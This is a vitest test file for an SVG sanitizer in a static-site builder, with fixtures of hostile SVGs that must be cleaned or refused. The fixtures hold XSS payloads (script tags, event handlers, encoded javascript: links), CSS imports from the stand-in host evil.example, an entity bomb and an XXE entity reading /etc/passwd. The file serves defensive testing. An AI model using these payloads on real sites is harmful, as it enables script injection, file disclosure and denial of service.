// SVG files: what could run code or load from elsewhere is removed, checked by an independent XML parser; harmless ones
// keep every byte.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { cleanSvg, MAX_SVG_BYTES } from '../src/assets/svg.js';
import { PACKAGE_ROOT } from '../src/package-root.js';
import { expectCost } from './support/processor-time.js';
import { component, makeSite, page } from './support/site.js';

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'http://www.w3.org/1999/xhtml';
const svgOf = (inside: string, attributes = '') =>
  `<svg ${SVG} viewBox="0 0 9 9"${attributes}>${inside}<rect width="9" height="9"/></svg>`;
const clean = (text: string | Uint8Array) => {
  const bytes = typeof text === 'string' ? new TextEncoder().encode(text) : text;
  const result = cleanSvg('content/media/x.svg', bytes);
  return {
    ...result,
    text: new TextDecoder().decode(result.bytes),
    same: result.bytes === bytes,
    codes: result.problems.map((one) => one.code),
  };
};

/** What a browser would make of it: throws when the XML is not well formed. */
function dangers(text: string): string[] {
  const { document } = new JSDOM(text, { contentType: 'image/svg+xml' }).window;
  const found: string[] = [];
  for (const element of document.querySelectorAll('*')) {
    if (element.namespaceURI === XHTML || element.namespaceURI === 'http://www.w3.org/1998/Math/MathML')
      found.push(element.localName);
    if (/^(?:script|foreignObject|iframe|handler|listener)$/i.test(element.localName)) found.push(element.localName);
    if (/^(?:set|animate)/.test(element.localName) && /href|^on/i.test(element.getAttribute('attributeName') ?? ''))
      found.push(element.localName);
    if (element.localName === 'style' && /@import|https?:|\/\/evil|\\/i.test(element.textContent ?? ''))
      found.push('style');
    for (const { localName, name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(name);
      if (name === 'xml:base') found.push(name);
      if (localName === 'href' && !/^\s*(?:#|data:image\/(?:png|jpeg|webp))/.test(value)) found.push(name);
      if (!name.startsWith('xmlns') && /url\(\s*["']?\s*(?:https?:|\/\/)|evil/i.test(value)) found.push(name);
    }
  }
  for (const node of document.childNodes) if (node.nodeType === 7) found.push('instruction');
  if (/evil/.test(document.doctype?.systemId ?? '')) found.push('document type');
  return found;
}

const CLEANED: Readonly<Record<string, string>> = {
  script: svgOf('<script>alert(1)</script>'),
  'script in CDATA': svgOf('<script><![CDATA[alert(1)]]></script>'),
  'script with href': svgOf('<script href="https://evil.example/x.js"/>'),
  'script under another prefix': `<svg ${SVG} xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></svg>`,
  'script of XHTML': svgOf(`<h:script xmlns:h="${XHTML}">alert(1)</h:script>`),
  'script of XHTML by default namespace': svgOf(`<g><script xmlns="${XHTML}">alert(1)</script></g>`),
  'script inside an unknown element': svgOf('<i:pgf xmlns:i="urn:editor"><script>alert(1)</script></i:pgf>'),
  'script in metadata': svgOf('<metadata><script>alert(1)</script></metadata>'),
  'script in a switch, nested deeply': svgOf(`${'<g>'.repeat(200)}<script>1</script>${'</g>'.repeat(200)}`),
  'onload on the root': svgOf('', ' onload="alert(1)"'),
  'onload in single quotes, with spaces and a line break': svgOf('', "\n  onload\n=\n'alert(1)'"),
  'onclick with references': svgOf('<rect onclick="&#97;lert(1)"/>'),
  'a handler in mixed case': svgOf('<rect onLoad="alert(1)" OnClick="x"/>'),
  foreignObject: svgOf(
    `<foreignObject><body xmlns="${XHTML}"><img src="x" onerror="alert(1)"/></body></foreignObject>`,
  ),
  'an XHTML picture': svgOf(`<img xmlns="${XHTML}" src="x" onerror="alert(1)"/>`),
  'an XHTML frame': svgOf(`<x:iframe xmlns:x="${XHTML}" src="javascript:alert(1)"/>`),
  'a MathML link': svgOf(
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="javascript:alert(1)">x</mtext></math>',
  ),
  'javascript: link': svgOf('<a href="javascript:alert(1)"><text>x</text></a>'),
  'javascript: link in xlink, with references': svgOf('<a xlink:href="&#x6a;avascript:alert(1)"><text>x</text></a>'),
  'javascript: link with a tab': svgOf('<a href="java&#9;script:alert(1)"><text>x</text></a>'),
  'a link under another prefix of xlink': svgOf(
    '<a xmlns:l="http://www.w3.org/1999/xlink" l:href="javascript:alert(1)"/>',
  ),
  'an ordinary outside link': svgOf('<a href="https://evil.example/"><text>x</text></a>'),
  'use of another file': svgOf('<use href="https://evil.example/a.svg#x"/>'),
  'use of a data SVG': svgOf('<use href="data:image/svg+xml,&lt;svg onload=\'alert(1)\'/&gt;"/>'),
  'an image of a data SVG': svgOf('<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  'an image from elsewhere': svgOf('<image href="//evil.example/x.png"/>'),
  'a filter image from elsewhere': svgOf('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'),
  'xml:base': svgOf('<use xml:base="https://evil.example/" href="#x"/>'),
  'set of href': svgOf('<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
  'animate of xlink:href': svgOf(
    '<a href="#a"><animate attributeName=" xlink:href" values="javascript:alert(1)"/></a>',
  ),
  'set of a handler': svgOf('<set attributeName="onmouseover" to="alert(1)"/>'),
  'style with @import': svgOf('<style>@import "https://evil.example/x.css";</style>'),
  'style with an escaped @import': svgOf('<style>@\\69mport "//evil.example/x.css";</style>'),
  'style with an @import cut by a comment of XML': svgOf('<style>@im<!-- -->port "//evil.example/x.css";</style>'),
  'style with an @import cut by an element': svgOf('<style>@im<g/>port "//evil.example/x.css";</style>'),
  'style with an @import cut by an instruction': svgOf('<style>@im<?x y?>port "//evil.example/x.css";</style>'),
  'style with an @import between strings that look like comments': svgOf(
    '<style>a{content:"/*"}@import "//evil.example";b{content:"*/"}</style>',
  ),
  'style with url() in CDATA': svgOf('<style><![CDATA[rect{fill:url(https://evil.example/x)}]]></style>'),
  'style with an escaped url()': svgOf('<style>rect{fill:u\\72 l("https://evil.example/x")}</style>'),
  'style with image-set': svgOf('<style>rect{mask:image-set("https://evil.example/x" 1x)}</style>'),
  'style with a font from elsewhere': svgOf(
    '<style>@font-face{font-family:x;src:url("//evil.example/x.woff2")}</style>',
  ),
  'style attribute': svgOf('<rect style="fill:url( \'https://evil.example/x\' )"/>'),
  'presentation attribute': svgOf('<rect filter="url(https://evil.example/x.svg#f)"/>'),
  'animated paint from elsewhere': svgOf('<rect><animate attributeName="fill" values="url(//evil.example/a)"/></rect>'),
  'an attribute of a style sheet that goes as well': svgOf(
    '<style onload="x" media="url(//evil.example)">@import "//evil.example"</style>',
  ),
  'a style sheet instruction': `<?xml-stylesheet href="https://evil.example/x.css"?>${svgOf('')}`,
  'a handler element of SVG Tiny': svgOf('<handler type="text/javascript">alert(1)</handler>'),
  'a document type that names a file': `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svgOf('')}`,
};

const REFUSED: Readonly<Record<string, string>> = {
  'a billion laughs': `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svgOf('<text>&b;</text>')}`,
  'an outside entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svgOf('<text>&x;</text>')}`,
  'an unknown entity': svgOf('<text>&nbsp;</text>'),
  'a bare ampersand': svgOf('<text>a & b</text>'),
  'a reference to NUL': svgOf('<text>&#0;</text>'),
  'a control character': svgOf('<text>\u0001</text>'),
  'an encoding that reads other letters': `<?xml version="1.0" encoding="UTF-7"?>${svgOf('')}`,
  'Latin letters under another encoding': `<?xml version="1.0" encoding="ISO-8859-1"?>${svgOf('<text>è</text>')}`,
  'an element that is not closed': `<svg ${SVG}><g></svg>`,
  'an end without': `${svgOf('')}</svg>`,
  'two roots': svgOf('') + svgOf(''),
  'an attribute twice': svgOf('<rect x="1" x="2"/>'),
  'an attribute twice by namespace': svgOf('<use xmlns:l="http://www.w3.org/1999/xlink" l:href="#a" xlink:href="#b"/>'),
  'an attribute without quotes': svgOf('<rect x=1/>'),
  'an attribute without a value': svgOf('<rect onload/>'),
  'attributes that touch': svgOf('<rect x="1"y="2"/>'),
  'a tag in an attribute': svgOf('<rect id="<script>"/>'),
  'an unknown prefix': svgOf('<x:script/>'),
  'a prefix bound to the namespace of xmlns': svgOf('<g xmlns:x="http://www.w3.org/2000/xmlns/"/>'),
  'a comment with two dashes': svgOf('<!-- a -- b -->'),
  'a comment that does not end': svgOf('<!-- '),
  'a CDATA section that does not end': svgOf('<![CDATA[ '),
  'no namespace': '<svg viewBox="0 0 9 9"/>',
  'another root': `<html xmlns="${XHTML}"><script>alert(1)</script></html>`,
  'a script as root': '<script xmlns="http://www.w3.org/2000/svg">alert(1)</script>',
  HTML: '<!DOCTYPE html><script>alert(1)</script>',
  nothing: '',
  'too deep': svgOf('<g>'.repeat(300) + '</g>'.repeat(300)),
};

describe('hostile SVG files', () => {
  it.each(Object.entries(CLEANED))('cleans: %s', (_, text) => {
    expect(dangers(text), 'the check must find it').not.toEqual([]);
    const result = clean(text);
    expect(result.codes).toEqual(['media-cleaned']);
    expect(result.same).toBe(false);
    expect(dangers(result.text)).toEqual([]);
    expect(result.text).toContain('<svg');
    // What is clean stays as it is.
    expect(clean(result.text)).toMatchObject({ same: true, codes: [] });
  });

  it.each(Object.entries(REFUSED))('refuses: %s', (_, text) => {
    expect(clean(text).codes).toEqual(['media-invalid']);
  });

  it('refuses bytes that are not UTF-8, and files over the cap', () => {
    expect(clean(new Uint8Array([0xff, 0xfe, 0x3c, 0x00])).codes).toEqual(['media-invalid']);
    expect(clean(new Uint8Array(MAX_SVG_BYTES + 1)).codes).toEqual(['media-invalid']);
  });

  it('names what went and where', () => {
    const [one] = clean(`<svg ${SVG}>\n  <script>1</script>\n  <rect onclick="a"/>\n</svg>`).problems;
    expect(one).toMatchObject({
      code: 'media-cleaned',
      severity: 'warning',
      file: 'content/media/x.svg',
      line: 2,
      column: 3,
    });
    expect(one!.message).toBe('Removed from the SVG: <script> (2:3), onclick (3:8).');
  });

  it.each(
    Object.entries({
      'elements not closed': (n: number) => `<svg ${SVG}>${'<g>'.repeat(n)}`,
      'one long name': (n: number) => `<svg ${SVG}><${'a'.repeat(n)}`,
      'spaces in a tag': (n: number) => svgOf(`<g${' '.repeat(n)}`),
      attributes: (n: number) => svgOf(`<g ${Array.from({ length: n / 10 }, (_, i) => `a${i}="1"`).join(' ')}/>`),
      ampersands: (n: number) => svgOf(`<text>${'&amp;'.repeat(n / 5)}&</text>`),
      handlers: (n: number) => svgOf('<g onload="x"/>'.repeat(n / 15)),
      'comments in a style': (n: number) => svgOf(`<style>${'a<!---->'.repeat(n / 8)}</style>`),
      'url( in a style': (n: number) => svgOf(`<style>${'url(#a) '.repeat(n / 8)}</style>`),
      'backslashes in a style': (n: number) => svgOf(`<style>${'\\'.repeat(n)}</style>`),
      'declared namespaces': (n: number) =>
        svgOf(
          `${Array.from({ length: 200 }, (_, i) => `<g xmlns:p${i}="urn:${i}">`).join('')}${'<p0:a/>'.repeat(n / 7)}${'</g>'.repeat(200)}`,
        ),
    }),
  )('takes linear time for %s', async (_, make) => {
    const text = make(500_000);
    await expectCost(() => clean(text), 3000);
  });
});

describe('harmless SVG files', () => {
  const folder = join(PACKAGE_ROOT, 'content/media');
  const bundled = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.svg'));

  it.each(bundled)('keeps every byte of %s', (name) => {
    const bytes = readFileSync(join(folder, name));
    const result = cleanSvg(name, bytes);
    expect(result.problems).toEqual([]);
    expect(result.bytes).toBe(bytes);
  });

  it.each(
    Object.entries({
      'links inside the SVG': svgOf('<g id="a"/><use href="#a"/><use xlink:href="#a"/>'),
      'pictures that are part of it': svgOf(
        '<image href="data:image/png;base64,AAAA"/><image xlink:href="data:image/jpeg;base64,AAAA"/><image href="data:image/webp;base64,AAAA"/>',
      ),
      'styles and paint of its own': svgOf(
        '<style>.a{fill:url(#b);stroke:url("#c")} @media (min-width: 9px){.a{opacity:1}} @font-face{font-family:x;src:url(data:font/woff2;base64,AA) format("woff2")}</style><rect fill="url(#b)" style="filter:url(\'#c\')"/>',
      ),
      animation: svgOf(
        '<rect><animate attributeName="x" values="1;2" dur="1s"/><animateTransform attributeName="transform" type="rotate" from="0" to="9" dur="1s"/></rect>',
      ),
      'an XML declaration, a comment and the old document type': `<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!-- Made by hand -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svgOf('')}\n`,
      'what editors leave': svgOf(
        '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" pagecolor="#fff"/><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><cc:Work xmlns:cc="http://creativecommons.org/ns#" rdf:about=""/></rdf:RDF></metadata>',
      ),
      'words that only look like it': svgOf(
        '<text id="src(1)" aria-label="url(https://x.example)">onload=&quot;x&quot; &lt;script&gt; https://x.example</text>',
      ),
      'a byte-order mark': `\ufeff${svgOf('')}`,
      'ASCII under another encoding': `<?xml version='1.0' encoding='iso-8859-1'?>${svgOf('')}`,
    }),
  )('keeps every byte of %s', (_, text) => {
    expect(clean(text)).toMatchObject({ same: true, codes: [] });
  });
});

describe('a site with SVG files', () => {
  const shown = (media: string) => ({
    'content/pages/x.json': page('/x', [
      component(6, { header: 'Carte', p: 'Testo', cards: [], icon_url: '/media/a.svg', icon_alt: '' }),
    ]),
    'content/media/a.svg': media,
  });

  it('publishes the cleaned bytes under the hash of these', async () => {
    const site = makeSite(shown(`<svg ${SVG} width="9" height="9" onload="alert(1)"/>`));
    const report = await site.build();
    expect(report.problems.map(({ code, file, line }) => [code, file, line])).toEqual([
      ['media-cleaned', 'content/media/a.svg', 1],
    ]);
    const src = site.page('x/index.html').querySelector('main img')!.getAttribute('src')!;
    expect(site.out(src)).toBe(`<svg ${SVG} width="9" height="9"/>`);
    const { assets } = JSON.parse(site.out('_build/manifest.json')) as {
      assets: { file: string; hash: string; bytes: number }[];
    };
    const record = assets.find((one) => `/${one.file}` === src)!;
    expect(record.bytes).toBe(site.out(src).length);
    expect(src).toContain(record.hash.slice(0, 16));
  });

  it('publishes nothing when an SVG cannot be read', async () => {
    const site = makeSite(shown(`<svg ${SVG} width="9" height="9">`));
    const report = await site.build();
    expect(report.ok).toBe(false);
    expect(report.problems.map(({ code, file }) => [code, file])).toEqual([['media-invalid', 'content/media/a.svg']]);
  });
});
